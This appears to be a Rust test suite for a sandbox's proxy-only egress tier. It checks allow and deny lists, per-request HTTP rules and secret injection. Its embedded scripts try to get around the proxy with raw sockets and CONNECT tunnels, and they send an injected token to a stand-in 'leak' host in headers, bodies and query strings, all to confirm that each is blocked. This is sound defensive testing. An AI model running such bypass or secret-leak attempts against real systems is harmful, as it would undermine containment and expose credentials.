//! The tier without namespaces: no egress, unless a profile accepts a proxy that programs are asked to use.

use super::in_bare;
use super::support::jail::{Jail, Ran};
use super::support::place::Place;
use super::world::World;

/// The web.
const PROXIED: &str = r#"
summary = "Test."
extends = "untrusted"
[egress]
allow = ["good.example", "good.example:7000", "45.90.0.2:9000", "45.90.0.2:80", "*.wild.example"]
deny = ["bad.wild.example"]
"#;

/// What a profile says to be kept in the bare tier, as far as that can.
const ACCEPTED: &str = r#"
[require]
network = "partial"
limits = "partial"
processes = "partial"
lifetime = "partial"
"#;

/// Has a profile `name` of these rules, where a proxy is accepted.
fn accept(world: &World, name: &str, rules: &str) {
    world.profile(name, &format!("{rules}{ACCEPTED}"));
}

fn denials(ran: &Ran) -> String {
    ran.verdict["denials"].to_string()
}

#[test]
fn without_a_word_on_it_egress_is_refused_and_the_remedy_named() {
    in_bare(|world, place| {
        let ran = world.bash(place, "web", "true");
        assert_eq!(ran.code, Some(126), "{}", ran.whole());
        let lines = ran.own_lines().join("\n");
        assert!(lines.contains("needs a network namespace that this tier does not have"), "{lines}");
        assert!(lines.contains("`[require] network = \"partial\"`"), "{lines}");
    });
}

#[test]
fn programs_reach_what_is_allowed_through_the_proxy_that_they_are_told_of() {
    in_bare(|world, place| {
        accept(world, "proxied", PROXIED);
        place.write("ca.pem", world.certificate());
        let script = "curl -sS http://good.example/plain http://good.example/again http://a.wild.example/other; \
             curl -sS -d body=1 http://good.example/post; curl -sS --cacert ca.pem https://good.example/secure; \
             curl -sS http://45.90.0.2/address; \
             python3 -c 'import urllib.request as r; print(r.urlopen(\"http://good.example/python\").read().decode().strip())'; \
             curl -sS -o /dev/null -w '%{http_code} ' http://other.example/denied; \
             curl -sS -o /dev/null -w '%{http_code} ' http://bad.wild.example/denied; \
             curl -sS -o /dev/null https://other.example/denied; echo rc $?";
        let ran = world.bash(place, "proxied", script);
        let heard = [
            "http good.example GET /plain 0",
            "http good.example GET /again 0",
            "http a.wild.example GET /other 0",
            "http good.example POST /post 6",
            "https good.example GET /secure 0",
            "http 45.90.0.2 GET /address 0",
            "http good.example GET /python 0",
            "403 403 rc 56",
        ];
        assert_eq!(ran.text(), heard.join("\n"), "{}", ran.whole());
        assert!(!world.log().contains("/denied") && !world.log().contains("dns other.example"), "{}", world.log());
        assert!(denials(&ran).contains("other.example:443"), "{}", denials(&ran));
        let network = &ran.verdict["enforcement"]["promises"]["network"];
        assert_eq!(
            ran.verdict["enforcement"]["level"].as_str().or(ran.verdict["enforcement"]["kept"].as_str()),
            Some("partial"),
            "{}",
            ran.verdict["enforcement"]
        );
        assert!(ran.verdict["enforcement"].to_string().contains("the gate's port is open on every host"), "{network}");
    });
}

#[test]
fn what_goes_around_the_proxy_gets_nowhere() {
    in_bare(|world, place| {
        accept(world, "proxied", PROXIED);
        let program = r#"
import os, socket
def tried(attempt):
    try:
        attempt()
        return 'worked'
    except OSError as error:
        return error.strerror or type(error).__name__
def stream(): return socket.socket(socket.AF_INET, socket.SOCK_STREAM)
def tunnel(*lines):
    where = os.environ['HTTP_PROXY'].rsplit('@')[1].split(':')
    c = socket.create_connection((where[0], int(where[1])), timeout=10)
    c.sendall('\r\n'.join(lines + ('', '')).encode())
    return c.recv(100).split(b'\r\n')[0].decode()
import base64
word = 'Proxy-Authorization: Basic ' + base64.b64encode(os.environ['HTTP_PROXY'][7:].rsplit('@')[0].encode()).decode()
print(tunnel('CONNECT good.example:7000 HTTP/1.1', word))
print(tunnel('CONNECT good.example:7000 HTTP/1.1'), tunnel('CONNECT good.example:7001 HTTP/1.1', word), tunnel('CONNECT 10.1.2.3:7000 HTTP/1.1', word))
for address in ('93.184.216.34', '45.90.0.2', '127.0.0.1'):
    print(tried(lambda: stream().connect((address, 80))))
print(tried(lambda: stream().sendto(b'GET / HTTP/1.0\r\n\r\n', 0x20000000, ('93.184.216.34', 80))))
print(tried(lambda: stream().sendmsg([b'GET / HTTP/1.0\r\n\r\n'], [], 0x20000000, ('93.184.216.34', 80))))
print(tried(lambda: stream().bind(('127.0.0.1', 0))), tried(lambda: stream().listen()))
for kind, protocol in ((socket.SOCK_DGRAM, 0), (socket.SOCK_STREAM, 262), (socket.SOCK_STREAM, 132), (socket.SOCK_RAW, 255)):
    print(tried(lambda: socket.socket(socket.AF_INET, kind, protocol)), end=' ')
"#;
        let before = world.log().lines().count();
        let ran = world.python(place, "proxied", program);
        let (no, port) = ("Operation not permitted", "Permission denied");
        let expected = [
            "HTTP/1.1 200 OK".to_owned(),
            "HTTP/1.1 407 Proxy Authentication Required HTTP/1.1 403 Forbidden HTTP/1.1 403 Forbidden".to_owned(),
            format!("{port}\n{port}\n{port}\n{no}\n{no}\n{no} {no}"),
            [no; 4].join(" "),
        ];
        assert_eq!(ran.text(), expected.join("\n"), "{}", ran.whole());
        let since: Vec<String> = world.log().lines().skip(before).map(str::to_owned).collect();
        assert!(!since.iter().any(|line| line.contains("GET /") && line.contains("HTTP/1.0")), "{since:?}");
    });
}

/// The web by rules for requests, and a secret, where a proxy is accepted.
const RULED: &str = r#"
summary = "Test."
extends = "untrusted"
[egress]
allow = ["known.wild.example", "good.example:7000"]
hosts = { "known.wild.example" = "93.184.216.35" }
[[egress.http]]
host = "good.example"
methods = ["GET"]
paths = ["/api/**", "/headers"]
inject = { header = "Authorization", secret = "test", format = "Bearer {}" }
[[egress.http]]
host = "a.wild.example:80"
methods = ["GET", "HEAD"]
paths = ["/api/**"]
[egress.secrets.test]
env = "TEST_TOKEN"
environment = "OUTER_SECRET"
"#;

fn ruled(world: &World, place: &Place, script: &str) -> Ran {
    accept(world, "bare-ruled", RULED);
    let jail = Jail::new(place).profile("bare-ruled").patient(80).environment("OUTER_SECRET", "hunter2-of-bare");
    jail.finish(world.start(place, &jail, &["bash", "-c", script]))
}

#[test]
fn requests_are_judged_by_rules_behind_the_proxy_too_and_tls_ends_there() {
    in_bare(|world, place| {
        let token = &place.token;
        let code = "curl -sS -o /dev/null -w '%{http_code} '";
        let script = format!(
            "curl -sS https://good.example/api/{token} http://a.wild.example/api/{token}-a http://a.wild.example/api/{token}-b; \
             python3 -c 'import urllib.request as r; print(r.urlopen(\"https://good.example/api/{token}-python\").read().decode().strip())'; \
             {code} -X DELETE https://good.example/api/x; {code} https://good.example/no; {code} http://a.wild.example/no; \
             {code} -X POST http://a.wild.example/api/x; {code} http://a.wild.example/api/../no http://known.wild.example/{token}-other"
        );
        let ran = ruled(world, place, &script);
        let heard = [
            format!("https good.example GET /api/{token} 0"),
            format!("http a.wild.example GET /api/{token}-a 0"),
            format!("http a.wild.example GET /api/{token}-b 0"),
            format!("https good.example GET /api/{token}-python 0"),
            format!("403 403 403 403 403 http known.wild.example GET /{token}-other 0\n200"),
        ];
        assert_eq!(ran.text(), heard.join("\n"), "{}", ran.whole());
        assert!(!world.log().contains(" /no "), "{}", world.log());
        let requests = ran.verdict["denials"].to_string().matches("\"request\"").count();
        assert!(requests >= 4, "{}", denials(&ran));
        assert!(ran.verdict["enforcement"].to_string().contains("the gate's port is open on every host"));
    });
}

#[test]
fn a_secret_is_put_in_behind_the_proxy_and_what_stands_for_it_leaves_nowhere_else() {
    in_bare(|world, place| {
        let script = "curl -sS https://good.example/headers | grep -i authorization; env | grep -c hunter2; \
             t() { curl -sS -o /dev/null -w '%{http_code} ' \"$@\"; }; \
             t -H \"X: $TEST_TOKEN\" https://known.wild.example/leak; t -d \"$TEST_TOKEN\" http://known.wild.example/leak; \
             t \"http://known.wild.example/leak?$TEST_TOKEN\"; t http://known.wild.example/clean; \
             echo x >> \"$SSL_CERT_FILE\" || echo kept";
        let ran = ruled(world, place, script);
        let text = ran.text();
        assert!(
            text.to_lowercase().contains(&format!("authorization: bearer {}", "*".repeat("hunter2-of-bare".len()))),
            "{}",
            ran.whole()
        );
        assert!(text.contains("\n0\n403 403 403 200 ") && text.ends_with("kept"), "{}", ran.whole());
        assert!(world.saw("authorization good.example Bearer hunter2-of-bare"));
        assert!(!world.log().lines().any(|line| line.starts_with("placeholder known.wild.example")), "{}", world.log());
        assert!(!ran.verdict.to_string().contains("hunter2-of-bare"));
    });
}
